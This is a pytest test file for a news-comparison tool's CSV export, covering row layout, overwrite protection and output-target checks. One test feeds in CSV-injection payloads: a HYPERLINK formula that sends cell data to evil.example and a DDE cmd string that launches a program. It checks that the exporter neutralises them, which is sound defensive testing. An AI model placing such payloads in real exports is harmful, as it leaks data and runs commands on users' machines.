"""`newsdiff --csv`: the story table for spreadsheets, written as safely as --json."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest
from helpers import fingerprint, write

from tui.cli import EXIT_INPUT, main
from tui.core import comparison
from tui.core.story_table import story_rows

STORY = (
    "Rescuers pulled 12 people from the collapsed building in Lagos on Tuesday, officials said.\n"
    "Fire chief Ada Okafor said the search would continue through the night.\n"
)
OTHER = STORY.replace("12 people", "14 people")
PRECIOUS = "the user's own file, never to be touched\n"


def run(capsys, *args: str | Path) -> tuple[int, str, str]:
    status = main([str(a) for a in args])
    captured = capsys.readouterr()
    return status, captured.out, captured.err


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_refused(status: int, err: str, problem: str) -> None:
    assert "Traceback" not in err
    assert status == EXIT_INPUT, err
    lines = err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("newsdiff: ") and problem in lines[0], err


def test_the_samples_make_a_row_per_passage_and_unique_sentence(tmp_path, capsys, seed_comparison):
    out = tmp_path / "story.csv"
    assert main(["--csv", str(out)]) == 0
    rows = rows_of(out.read_text(encoding="utf-8"))
    labels = [v.label for v in seed_comparison.versions]
    assert rows[0] == ["passage", *labels, "support", "discrepancies"]
    body = rows[1:]
    assert len(body) == len(story_rows(seed_comparison))
    assert all(len(row) == len(labels) + 3 for row in body)
    numbered = [int(row[0]) for row in body if row[0]]
    assert numbered == list(range(1, len(seed_comparison.passages) + 1)), "in story order"
    first = next(row for row in body if row[0] == "1")
    assert first[-2] == "5/5"
    assert "name: Antony (" in first[-1] and " · Anthony (Reuters)" in first[-1]
    for row in body:
        cells = row[1:-2]
        assert row[-2] == f"{sum(c != '—' for c in cells)}/{len(labels)}"
        if not row[0]:
            assert row[-2] == "1/5" and row[-1] == ""


def test_csv_to_stdout_is_the_file(tmp_path, capsys):
    out = tmp_path / "story.csv"
    assert main(["--csv", str(out)]) == 0
    status, stdout, _ = run(capsys, "--csv", "-")
    assert status == 0
    assert stdout.replace("\r\n", "\n") == out.read_text(encoding="utf-8").replace("\r\n", "\n")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
def test_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path, capsys, start):
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"click") said the fire chief.'
    a = write(tmp_path, "a.txt", STORY + formula + "\n")
    b = write(tmp_path, "b.txt", OTHER)
    label = f"{start}cmd|' /C calc'!A0"
    status, stdout, _ = run(capsys, a, b, "--label", label, "--csv", "-")
    assert status == 0
    cells = [c for row in rows_of(stdout) for c in row]
    assert any("HYPERLINK" in c for c in cells)
    for c in cells:
        assert not c.startswith(("=", "+", "-", "@", "\t", "\r")), c
    assert rows_of(stdout)[0][1] == (label.strip() if start == "\t" else "'" + label)


def test_an_input_is_never_the_output_and_a_file_is_kept_without_force(tmp_path, capsys):
    a, b = write(tmp_path, "a.txt", STORY), write(tmp_path, "b.txt", OTHER)
    existing = write(tmp_path, "out.csv", PRECIOUS)
    before = fingerprint(tmp_path)
    status, _, err = run(capsys, a, b, "--csv", b, "--force")
    assert_refused(status, err, "is one of the inputs")
    status, _, err = run(capsys, a, b, "--csv", existing)
    assert_refused(status, err, "already exists (use --force to replace it)")
    assert fingerprint(tmp_path) == before
    assert run(capsys, a, b, "--csv", existing, "--force")[0] == 0
    assert existing.read_text(encoding="utf-8").startswith("passage,a,b,support")


def test_bad_csv_targets_are_refused_before_the_comparison(tmp_path, capsys, monkeypatch):
    def never(*_):
        raise AssertionError("compared before checking where the result goes")

    monkeypatch.setattr(comparison, "compare", never)
    a, b = write(tmp_path, "a.txt", STORY), write(tmp_path, "b.txt", OTHER)
    cases = [
        (["--csv", tmp_path], "is a directory"),
        (["--csv", tmp_path / "gone" / "x.csv"], "cannot write here (no such folder)"),
        (["--json", "-", "--csv", "-"], "standard output: given to both --json and --csv"),
        (["--html", tmp_path / "x", "--csv", tmp_path / "." / "x"], "given to both --html and"),
    ]
    for options, problem in cases:
        status, stdout, err = run(capsys, a, b, *options)
        assert_refused(status, err, problem)
        assert stdout == ""


def test_csv_goes_with_json_to_two_files(tmp_path, capsys):
    a, b = write(tmp_path, "a.txt", STORY), write(tmp_path, "b.txt", OTHER)
    assert run(capsys, a, b, "--csv", tmp_path / "x.csv", "--json", tmp_path / "x.json")[0] == 0
    assert rows_of((tmp_path / "x.csv").read_text(encoding="utf-8"))[1][-1] == (
        "number: 12 (a) · 14 (b)"
    )
    assert (tmp_path / "x.json").stat().st_size > 0


def test_a_file_name_that_is_not_utf8_exports_cleanly(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.txt").write_text(STORY, encoding="utf-8")
    with open(bytes(folder) + b"/b\xff.txt", "w", encoding="utf-8") as stream:
        stream.write(OTHER)
    result = subprocess.run(
        [sys.executable, "-m", "tui", str(folder), "--csv", "-"],
        capture_output=True,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.decode("utf-8").startswith("passage,a,b")
